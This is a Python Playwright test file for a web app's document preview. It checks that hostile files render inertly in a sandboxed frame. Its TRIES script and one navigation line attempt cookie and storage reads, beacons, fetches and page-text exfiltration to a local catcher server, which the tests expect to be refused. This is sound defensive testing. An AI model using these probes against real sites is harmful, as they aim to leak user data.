"""Looking at a document on the screen: every kind, every face, and files that mean harm."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Frame, Page, expect

from core import db
from tests.browser import preview_files
from tests.browser.conftest import PHONE, WIDE, accessible, calm, picture

pytestmark = pytest.mark.browser

LABELS = {
    "en": {"open": "Preview", "close": "Close", "next": "Next page (n)", "page": "Page"},
    "zh_CN": {"open": "预览", "close": "关闭", "next": "下一页（n）", "page": "页码"},
}


@pytest.fixture
def shelved(server, project):
    """`shelved(names…)`: files of tests/browser/preview_files.py in the project; name -> code."""
    return lambda *names: server.build(
        preview_files.shelved, project=project.id, mail=project.people["manager"]["mail"], names=list(names)
    )


def opened(page: Page, language: str = "en") -> Page:
    """Press the button of the open document."""
    page.get_by_role("button", name=LABELS[language]["open"], exact=True).click()
    return page


def inside(page: Page):
    """What stands in the frame."""
    return page.frame_locator("dialog iframe")


def choose(page: Page, name: str) -> None:
    """Open the document that came as this file beside the list."""
    title = name.rsplit(".", 1)[0]
    page.get_by_role("link", name=title, exact=True).click()
    expect(page.get_by_role("heading", name=title, exact=True)).to_be_visible()
    calm(page)


def frame_of(page: Page) -> Frame:
    return next(frame for frame in page.frames if frame.url.endswith("/preview/frame"))


def looks(project: str) -> list[int]:
    """The versions that were looked at, in order."""
    found = db.rows(
        "SELECT json_extract_string(after, '$.version') AS v FROM event WHERE project_id = ? AND action = 'previewed' ORDER BY seq",
        [project],
    )
    return [int(one["v"]) for one in found]


FACES = [("en", "light", WIDE), ("zh_CN", "dark", PHONE)]


@pytest.mark.parametrize(("language", "theme", "size"), FACES, ids=lambda v: str(v))
def test_a_document_is_walked_through_in_every_face(open_as, shelved, language, theme, size):
    code = shelved("Gate.docx")["Gate.docx"]
    labels = LABELS[language]
    page = open_as("viewer", f"/documents?document={code}", language=language, theme=theme, size=size)
    opened(page, language)
    dialog = page.get_by_role("dialog", name="Gate")
    expect(inside(page).get_by_text("1 Gate design 闸机设计")).to_be_visible()
    expect(dialog).to_contain_text(f"{code} v1")
    field = dialog.get_by_role("textbox", name=labels["page"])
    expect(field).to_have_value("1")
    picture(page, f"preview-word-{language}-{theme}")
    dialog.get_by_role("button", name=labels["next"]).click()
    expect(field).to_have_value("2")
    expect(inside(page).get_by_text("2 Gate design 闸机设计")).to_be_in_viewport()
    field.fill("3")
    field.press("Enter")
    expect(inside(page).get_by_text("3 Gate design 闸机设计")).to_be_in_viewport()
    accessible(page)
    # Escape closes it, also while what is read has the keyboard.
    inside(page).locator("body").press("Escape")
    expect(dialog).to_have_count(0)
    expect(page.get_by_role("button", name=labels["open"], exact=True)).to_be_focused()


HOSTILE = {
    "hostile words.docx": "Hostile words.", "hostile plan.pdf": "Page 1 of the plan", "letter.eml": "Words of a mail",
    "minutes.md": "gates open", "page.html": "Words of a page", "drawing.svg": "<svg xmlns", "table.csv": "闸机",
}  # fmt: skip


def test_every_kind_is_shown_and_what_a_file_brings_never_runs(open_as, shelved):
    """The windows of these tests fail on any request to elsewhere (tests/browser/conftest.py)."""
    shelved(*HOSTILE, "Map.png", "scan.pdf")
    page = open_as("viewer", "/documents")
    title = page.title()
    for name, words in HOSTILE.items():
        choose(page, name)
        opened(page)
        expect(inside(page).get_by_text(words).first).to_be_visible()
        picture(page, f"preview-{name}")
        frame = frame_of(page)
        # No link is left that could lead the frame away; those that there are, are pressed all the same.
        assert frame.evaluate("document.querySelectorAll('a[href], iframe, object, embed, form').length") == 0
        for link in frame.get_by_role("link").all()[:3]:
            link.click()
        assert frame.evaluate("document.querySelectorAll('script:not([src^=\"blob:\"])').length") == 1  # the page's own
        if name == "hostile words.docx":
            out = page.get_by_role("link", name="Open in a new tab")
            expect(page.get_by_text("This link leads to")).to_be_visible()
            assert (out.get_attribute("href"), out.get_attribute("rel")) == (
                f"{preview_files.ELSEWHERE}/page", "noopener noreferrer",
            )  # fmt: skip
        assert page.title() == title
        assert len(page.context.pages) == 1
        page.get_by_role("button", name="Close").last.click()
    choose(page, "scan.pdf")
    opened(page)
    expect(inside(page).get_by_text("扫描件验收")).to_be_visible()
    assert frame_of(page).evaluate(GREEN)
    page.get_by_role("button", name="Close").last.click()
    choose(page, "Map.png")
    opened(page)
    expect(inside(page).get_by_role("img", name="The picture")).to_be_visible()


GREEN = """() => {
    const page = document.querySelector('canvas');
    const [red, green, blue] = page.getContext('2d').getImageData(page.width * 0.3, page.height * 0.3, 1, 1).data;
    return green > red + 60 && green > blue;
}"""
"""Whether the picture of `scan` has been drawn."""


def test_a_sheet_is_scrolled_and_the_next_one_opened(open_as, shelved):
    page = open_as("viewer", f"/documents?document={shelved('Costs.xlsx')['Costs.xlsx']}")
    opened(page)
    grid = inside(page)
    expect(grid.get_by_role("cell", name="REQ-3", exact=True)).to_be_visible()
    expect(grid.get_by_role("cell", name="REQ-599", exact=True)).to_have_count(0)
    for _ in range(12):
        frame_of(page).evaluate("scrollTo(0, document.documentElement.scrollHeight)")
        page.wait_for_timeout(60)
    expect(grid.get_by_role("cell", name="REQ-599", exact=True)).to_be_visible()
    expect(grid.get_by_role("cell", name="99.8%")).to_be_visible()
    grid.get_by_role("tab", name="Costs").click()
    expect(grid.get_by_role("cell", name="Second sheet")).to_be_visible()


def test_zoom_makes_it_larger_by_button_and_by_key(open_as, shelved):
    page = open_as("viewer", f"/documents?document={shelved('Plan.pdf')['Plan.pdf']}")
    opened(page)
    expect(inside(page).get_by_text("Page 1 of the plan")).to_be_visible()
    percent = page.get_by_role("button", name="Usual size (0)")
    widths = []
    for does, text in (
        (lambda: None, "120 %"),
        (page.get_by_role("button", name="Larger (+)").click, "125 %"),
        (lambda: inside(page).locator("body").press("+"), "150 %"),
        (lambda: inside(page).locator("body").press("0"), "120 %"),
    ):
        does()
        expect(percent).to_have_text(text)
        widths.append(frame_of(page).evaluate("document.querySelector('.page').offsetWidth"))
    assert widths[0] == widths[3] < widths[1] < widths[2]


def test_another_version_opens_from_the_list_and_is_the_one_on_record(open_as, server, project, shelved):
    code = shelved("notes.txt")["notes.txt"]
    server.build(newer, project=project.id, mail=project.people["manager"]["mail"], document=code)
    page = open_as("viewer", f"/documents?document={code}")
    page.get_by_role("link", name="Preview version 1").click()
    expect(inside(page).get_by_text("验收标准：四百毫秒。").first).to_be_visible()
    expect(page.get_by_role("dialog")).to_contain_text("v1")
    page.get_by_role("button", name="Close").last.click()
    opened(page)
    expect(inside(page).get_by_text("the newer text")).to_be_visible()
    assert server.build(looks, project=project.id) == [1, 2]


def newer(project: str, mail: str, document: str) -> None:
    """A second version."""
    preview_files.put_version(project, mail, document, b"the newer text")


NOT_SHOWN = {
    "locked.pdf": "password-protected", "old.doc": "no preview of this kind", "torn.docx": "may be damaged",
    "bomb.png": "too many pixels",
}  # fmt: skip


def test_what_is_not_shown_says_why_and_can_be_fetched(open_as, shelved):
    shelved(*NOT_SHOWN)
    page = open_as("viewer", "/documents")
    for name, words in NOT_SHOWN.items():
        choose(page, name)
        opened(page)
        said = page.get_by_role("dialog").get_by_role("alert")
        expect(said).to_contain_text(words)
        expect(said.get_by_role("link", name="Fetch")).to_be_visible()
        picture(page, f"preview-not-{name}")
        page.get_by_role("button", name="Close").last.click()


@pytest.fixture
def elsewhere():
    """(address, paths that were asked for) of another server, which answers everything."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            return

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=listening.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{listening.server_port}", asked
    listening.shutdown()
    listening.server_close()


def test_the_frame_is_nobody(open_as, shelved, windows, elsewhere):
    """Suppose that something did run there: it has no cookie, no storage, no way out and none to us."""
    address, asked = elsewhere
    page = open_as("viewer", f"/documents?document={shelved('notes.txt')['notes.txt']}")
    opened(page)
    expect(inside(page).get_by_text("验收标准：四百毫秒。").first).to_be_visible()
    frame = frame_of(page)
    tried = frame.evaluate(TRIES, address)
    assert tried == {
        "origin": "null", "cookie": "SecurityError", "storage": "SecurityError", "above": "SecurityError",
        "server": "TypeError", "elsewhere": "TypeError", "beacon": "refused", "window": "null", "top": "SecurityError",
        "script": "false", "picture": "refused",
    }  # fmt: skip
    # It can't be led away either: that would carry out what it has seen.
    url = page.url
    frame.evaluate(f"() => {{ location.href = '{address}/?' + document.body.innerText.slice(0, 9) }}")
    page.wait_for_timeout(500)
    assert page.url == url
    assert asked == []
    assert windows.refused  # all of this was refused by the policy, before it left
    windows.refused.clear()
    windows.strangers.clear()  # Playwright names a request before it is refused


TRIES = """async (address) => {
    const tell = async (what) => { try { return String(await what()) } catch (error) { return error.name } };
    return {
        origin: self.origin,
        cookie: await tell(() => document.cookie),
        storage: await tell(() => localStorage.length),
        above: await tell(() => parent.document.title),
        server: await tell(() => fetch('/healthz')),
        elsewhere: await tell(() => fetch(address + '/fetch', { mode: 'no-cors' })),
        beacon: await tell(() => new Promise((done) => {
            document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
            navigator.sendBeacon(address + '/beacon', 'x');
        })),
        window: await tell(() => window.open(address + '/window')),
        top: await tell(() => { top.location = address + '/top' }),
        script: await tell(() => new Promise((done) => {
            const made = document.createElement('script');
            made.textContent = 'globalThis.ran = true';
            document.head.append(made);
            setTimeout(() => done(globalThis.ran === true), 50);
        })),
        picture: await tell(() => new Promise((done) => {
            const made = new Image();
            made.onload = () => done('loaded');
            made.onerror = () => done('refused');
            made.src = address + '/picture';
        })),
    };
}"""
"""What a script in the frame could try; each answers what came of it."""
